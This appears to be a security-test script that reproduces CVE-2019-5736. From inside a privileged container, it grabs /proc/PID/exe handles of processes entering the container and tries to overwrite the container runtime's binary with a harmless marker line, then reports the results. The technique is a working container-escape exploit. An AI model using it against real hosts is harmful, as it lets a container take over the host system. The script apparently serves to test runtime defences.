"""CVE-2019-5736: write to the runtime's binary through /proc/PID/exe of the process with which it enters.

This is the first process of a container without a user namespace, with every capability. It holds on to the
executable of every process that appears, and tries to open it for writing as soon as that process has ended or
executed something else. `also=PATH` is a file that it overwrites in any case: the control of the test.
"""

GARBAGE = b"#!/bin/false overwritten by a guest\n"
held, written = {}, []
if "also" in ARGS:
    with open(ARGS["also"], "wb") as file:
        file.write(GARBAGE)
own = os.readlink("/proc/self/exe")
open("/tmp/ready", "w").close()
say("ready")
end = time.monotonic() + float(ARGS["seconds"])
while time.monotonic() < end and not os.path.exists("/tmp/stop"):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        try:
            fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
            path = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if path == own or (path, os.fstat(fd).st_ino) in held:
            os.close(fd)
        else:
            held[path, os.fstat(fd).st_ino] = fd
    for (path, _), fd in held.items():
        try:
            file = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
            os.write(file, GARBAGE)
            os.close(file)
            written.append(path)
        except OSError:
            pass
say(f"seen: {sorted(path for path, _ in held)}")
say(f"written: {sorted(set(written))}")
